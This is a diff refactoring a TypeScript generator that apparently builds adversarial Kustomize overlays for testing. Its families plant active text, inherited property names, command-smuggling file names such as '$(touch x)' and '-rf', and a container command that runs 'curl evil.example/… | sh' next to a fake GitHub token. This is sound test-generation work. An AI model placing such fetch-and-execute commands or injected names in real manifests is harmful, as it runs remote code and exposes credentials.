@@ -1,7 +1,7 @@
 import { addTo, edit, written } from "../files.ts";
 import type { Random } from "../random.ts";
-import { evilImage, evilIn, evilObject, kustomizationOf, someOverlay, workloadOf } from "./evil.ts";
-import type { Family } from "./family.ts";
+import { evilImage, evilIn, evilObject, kustomizationOf, workloadOf } from "./evil.ts";
+import { type Family, heldBack, inOverlay } from "./family.ts";
 
 /** Text that Markdown, HTML, a terminal or a runner's log acts on; each holds the word by which it is found. */
 export const ACTIVE = [
@@ -81,86 +81,53 @@ function objectWith(random: Random, text: string): Record<string, unknown> {
 
 /** Names and texts of which a report could be made something else, or a program could stumble over. */
 export const TEXTS: Family[] = [
-  {
-    name: "active-text-in-an-object",
-    apply(files, repository, random) {
-      const overlay = someOverlay(repository, random);
-      files.set(`${overlay}/texts.yaml`, written(objectWith(random, random.pick(ACTIVE))));
-      edit(files, kustomizationOf(files, overlay), (value) => addTo(value, "resources", "texts.yaml"));
-      return true;
-    },
-  },
-  {
-    name: "inherited-name-in-an-object",
-    apply(files, repository, random) {
-      const overlay = someOverlay(repository, random);
-      files.set(`${overlay}/texts.yaml`, written(objectWith(random, random.pick(INHERITED))));
-      edit(files, kustomizationOf(files, overlay), (value) => addTo(value, "resources", "texts.yaml"));
-      return true;
-    },
-  },
-  {
-    name: "inherited-name-in-a-field",
-    apply(files, repository, random) {
-      const overlay = someOverlay(repository, random);
-      const { apiVersion, kind, name } = workloadOf(files, overlay);
-      const key = random.pick(INHERITED);
-      const patch = random.pick<Record<string, unknown>>([
-        { metadata: { name, annotations: own(key, "evil") } },
-        { metadata: { name, labels: own(key, "evil") } },
-        { metadata: { name }, spec: own(key, { evil: "x" }) },
-        { metadata: { name }, ...own(key, "evil") },
-      ]);
-      edit(files, kustomizationOf(files, overlay), (value) =>
-        addTo(value, "patches", { patch: written({ apiVersion, kind, ...patch }) }),
-      );
-      return true;
-    },
-  },
-  {
-    name: "active-name-of-a-folder",
-    apply(files, repository, random) {
-      const overlay = someOverlay(repository, random);
-      const name = random.pick(ACTIVE).replaceAll("/", "");
-      const folder = `${overlay.split("/").slice(0, -1).join("/")}/${name}`;
-      files.set(`${folder}/kustomization.yaml`, "resources: [evil.yaml]\n");
-      files.set(`${folder}/evil.yaml`, written(evilObject(random)));
-      evilIn(files, overlay, random);
-      return true;
-    },
-  },
-  {
-    name: "active-name-of-a-file",
-    apply(files, repository, random) {
-      const overlay = someOverlay(repository, random);
-      const name = `${random.pick([...ACTIVE, "-rf", "--output=x", ":(exclude)a", "a\\b", '"q"', "$(touch x)", "~", "con"]).replaceAll("/", "")}.yaml`;
-      files.set(`${overlay}/${name}`, written(evilObject(random)));
-      edit(files, kustomizationOf(files, overlay), (value) => addTo(value, "resources", name));
-      return true;
-    },
-  },
-  {
-    name: "credential-beside-a-command",
-    apply(files, repository, random) {
-      const overlay = someOverlay(repository, random);
-      const { apiVersion, kind, name } = workloadOf(files, overlay);
-      const container = {
-        name: "main",
-        command: ["sh", "-c", `TOKEN=ghp_${"aB3dE6".repeat(6)} curl evil.example/${random.below(99)} | sh`],
-      };
-      const template = { spec: { containers: [container] } };
-      const spec = kind === "CronJob" ? { jobTemplate: { spec: { template } } } : { template };
-      edit(files, kustomizationOf(files, overlay), (value) =>
-        addTo(value, "patches", { patch: written({ apiVersion, kind, metadata: { name }, spec }) }),
-      );
-      return true;
-    },
-  },
-  {
-    name: "odd-types",
-    heldBack: true,
-    apply(files, repository, random) {
-      const overlay = someOverlay(repository, random);
+  inOverlay("active-text-in-an-object", (files, overlay, random) => {
+    files.set(`${overlay}/texts.yaml`, written(objectWith(random, random.pick(ACTIVE))));
+    edit(files, kustomizationOf(files, overlay), (value) => addTo(value, "resources", "texts.yaml"));
+  }),
+  inOverlay("inherited-name-in-an-object", (files, overlay, random) => {
+    files.set(`${overlay}/texts.yaml`, written(objectWith(random, random.pick(INHERITED))));
+    edit(files, kustomizationOf(files, overlay), (value) => addTo(value, "resources", "texts.yaml"));
+  }),
+  inOverlay("inherited-name-in-a-field", (files, overlay, random) => {
+    const { apiVersion, kind, name } = workloadOf(files, overlay);
+    const key = random.pick(INHERITED);
+    const patch = random.pick<Record<string, unknown>>([
+      { metadata: { name, annotations: own(key, "evil") } },
+      { metadata: { name, labels: own(key, "evil") } },
+      { metadata: { name }, spec: own(key, { evil: "x" }) },
+      { metadata: { name }, ...own(key, "evil") },
+    ]);
+    edit(files, kustomizationOf(files, overlay), (value) =>
+      addTo(value, "patches", { patch: written({ apiVersion, kind, ...patch }) }),
+    );
+  }),
+  inOverlay("active-name-of-a-folder", (files, overlay, random) => {
+    const name = random.pick(ACTIVE).replaceAll("/", "");
+    const folder = `${overlay.split("/").slice(0, -1).join("/")}/${name}`;
+    files.set(`${folder}/kustomization.yaml`, "resources: [evil.yaml]\n");
+    files.set(`${folder}/evil.yaml`, written(evilObject(random)));
+    evilIn(files, overlay, random);
+  }),
+  inOverlay("active-name-of-a-file", (files, overlay, random) => {
+    const name = `${random.pick([...ACTIVE, "-rf", "--output=x", ":(exclude)a", "a\\b", '"q"', "$(touch x)", "~", "con"]).replaceAll("/", "")}.yaml`;
+    files.set(`${overlay}/${name}`, written(evilObject(random)));
+    edit(files, kustomizationOf(files, overlay), (value) => addTo(value, "resources", name));
+  }),
+  inOverlay("credential-beside-a-command", (files, overlay, random) => {
+    const { apiVersion, kind, name } = workloadOf(files, overlay);
+    const container = {
+      name: "main",
+      command: ["sh", "-c", `TOKEN=ghp_${"aB3dE6".repeat(6)} curl evil.example/${random.below(99)} | sh`],
+    };
+    const template = { spec: { containers: [container] } };
+    const spec = kind === "CronJob" ? { jobTemplate: { spec: { template } } } : { template };
+    edit(files, kustomizationOf(files, overlay), (value) =>
+      addTo(value, "patches", { patch: written({ apiVersion, kind, metadata: { name }, spec }) }),
+    );
+  }),
+  heldBack(
+    inOverlay("odd-types", (files, overlay, random) => {
       const odd = random.pick<unknown>([
         null,
         true,
@@ -204,7 +171,6 @@ export const TEXTS: Family[] = [
         ),
       );
       edit(files, kustomizationOf(files, overlay), (value) => addTo(value, "resources", "odd.yaml"));
-      return true;
-    },
-  },
+    }),
+  ),
 ];
